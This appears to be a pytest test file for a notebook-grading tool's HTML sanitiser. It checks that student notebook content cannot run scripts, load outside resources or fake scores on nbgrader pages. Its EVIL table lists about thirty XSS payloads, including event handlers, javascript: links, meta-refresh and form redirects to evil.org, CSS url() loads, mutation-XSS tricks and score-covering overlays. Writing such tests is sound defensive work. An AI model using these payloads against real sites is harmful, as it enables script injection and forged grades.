"""Nothing that a student wrote or showed runs on a page, loads anything, or covers the marks."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.server_extensions.formgrader import handlers

from mdcv.grading.feedback import OfflineHTMLExporter
from mdcv.grading.harmless import MAX_TAGS, clean
from mdcv.grading.notes import note_problems

#: HTML that does something, each in its own way.
EVIL = {
    "a script": "<script>evil()</script>",
    "a script in a script": "<scr<script>ipt>evil()</scr</script>ipt>",
    "an open script": "<script>evil()",
    "a handler": "<img src=x onerror=evil()>",
    "a handler in a whole image": '<img src="data:image/png;base64,aa" onload=evil()>',
    "a handler after a slash": "<svg/onload=evil()>",
    "a link": '<a href="javascript:evil()">x</a>',
    "a link in disguise": '<a href=" java&#10;script:evil()">x</a>',
    "a link to data": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "a frame": '<iframe src="javascript:evil()"></iframe><iframe srcdoc="&lt;script&gt;"></iframe>',
    "an object": '<object data="evil.html"></object><embed src="evil.swf">',
    "a form": '<form action="https://evil.org"><input name=x><button>Save</button></form>',
    "another base": '<base href="https://evil.org/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.org">',
    "a picture from elsewhere": '<img src="https://evil.org/seen.png">',
    "a picture of text": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "a style sheet": "<style>.score, li { display: none }</style>",
    "a link to a style sheet": '<link rel=stylesheet href="https://evil.org/x.css">',
    "a cover": '<div style="position:fixed;inset:0;background:white">Score: 9.0 / 9.0</div>',
    "a style that loads": '<b style="background-color: url(https://evil.org/x)">x</b>',
    "a cover by its margin": '<div style="margin-top: -900px; height: 900px">x</div>',
    "a style that hides its loading": '<b style="color: \\75rl(https://evil.org/x)">x</b>',
    "a class of the page": '<span class="pull-right score">Score: 9.0 / 9.0</span>',
    "an anchor of the page": '<a name="double" id="double">x</a>',
    "a vector picture": "<svg><script>evil()</script><a xlink:href='javascript:evil()'>x</a></svg>",
    "a formula": "<math><mtext><script>evil()</script></mtext></math>",
    "a comment": "<!--><script>evil()</script>-->",
    "a mutation": '<noscript><p title="</noscript><img src=x onerror=evil()>">',
    "a template": "<template><script>evil()</script></template>",
}


_COVERS = re.compile(r"position|url|\\|margin[a-z-]*:-")


class Runs(HTMLParser):
    """What of a page would do something, by tag and attribute."""

    def __init__(self, page: str):
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "style", "iframe", "object", "embed", "form", "input", "button"}:
            self.found.append(tag)
        if tag in {"base", "meta", "link", "svg", "math", "template", "noscript"}:
            self.found.append(tag)
        for name, value in attrs:
            value = "".join((value or "").split()).lower()
            if name.startswith("on") or (name == "style" and _COVERS.search(value)):
                self.found.append(f"{tag} {name}")
            if name in ("src", "href", "xlink:href", "srcdoc", "data"):
                inside = value.startswith(("#", "data:image/")) or not value
                if not inside and not (tag == "a" and value.startswith("http")):
                    self.found.append(f"{tag} {name}={value[:30]}")
            if name in ("id", "name", "class") and value in ("double", "pull-rightscore"):
                self.found.append(f"{tag} {name}={value}")


@pytest.mark.parametrize("html", EVIL.values(), ids=EVIL)
def test_of_what_was_shown_nothing_runs(html):
    assert Runs(html).found or "scr<script>" in html or "<!-->" in html
    assert Runs(clean(html)).found == []
    assert "<b>kept</b>" in clean(f"<b>kept</b>{html}")


def test_a_table_keeps_its_looks():
    table = (
        '<table border="1" class="dataframe"><tbody><tr style="text-align: right;">'
        '<td colspan="2">1 &lt; 2</td></tr></tbody></table>'
    )
    assert clean(f"<style scoped>.dataframe th {{ color: red }}</style>{table}") == table


def page_with(toy, html: str, kind: str) -> str:
    """A page with this HTML in every place where a student may put some."""
    shown = [
        new_output("display_data", {"text/html": html}),
        new_output("display_data", {"text/html": html}, metadata={"text/html": {"isolated": True}}),
        new_output("display_data", {"text/markdown": html, "text/plain": html}),
        new_output("display_data", {"text/latex": html, "image/svg+xml": html}),
        new_output("display_data", {"application/javascript": html}),
        new_output("display_data", {"image/png": f'x">{html}'}),
        new_output("display_data", {"image/png": "aa"}, metadata={"image/png": {"width": html}}),
        new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"a": html}}),
        new_output("stream", text=html),
        new_output("error", ename=html, evalue=html, traceback=[html]),
    ]
    cells = [new_markdown_cell(html), new_raw_cell(html), new_code_cell(html, outputs=shown)]
    cells[0].attachments = {"a.png": {f'image/png">{html}': f'x">{html}'}}
    cells[0].source += "\n\n![x](attachment:a.png) and $a < b$ `<b>`"
    notebook = new_notebook(cells=cells)
    note_problems(notebook, [f"{html} is a link", f"[x](javascript:{html})"])
    config = toy.config()
    about = {"score": 1, "max_score": 2, "late_penalty": 0, "notebook": "toy", "assignment": "toy"}
    if kind == "feedback":
        config.HTMLExporter.template_name = "feedback"
        exporter = OfflineHTMLExporter
    else:
        config.HTMLExporter.template_name = "formgrade"
        exporter = HTMLExporter
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    styles = Path(handlers.template_path, "../static/node_modules/bootstrap/dist/css").resolve()
    config.HTMLExporter.extra_template_paths = [str(styles)]
    resources = {"nbgrader": about, "base_url": "", "metadata": {}, "index": 0, "total": 1}
    return exporter(config=config).from_notebook_node(notebook, resources=resources)[0]


@pytest.mark.parametrize("kind", ["feedback", "formgrader"])
def test_on_the_pages_of_nbgrader_nothing_runs_wherever_it_was_put(toy, kind):
    usual = Runs(page_with(toy, "plain", kind)).found
    page = page_with(toy, "<b>kept</b>" + "".join(EVIL.values()), kind)
    assert Runs(page).found == usual
    assert "<b>kept</b>" in page and "$a &lt; b$" in page and "<code>&lt;b&gt;</code>" in page


@pytest.mark.parametrize("piece", ["<div>", "<b>", "<a ", "<!--", "<", "<td>" * 3])
def test_what_was_made_to_be_slow_is_shown_as_it_is(piece):
    begin = time.process_time()
    assert clean(piece * 60_000).startswith("<pre>&lt;")
    clean(piece * (MAX_TAGS // 5))
    assert time.process_time() - begin < 3
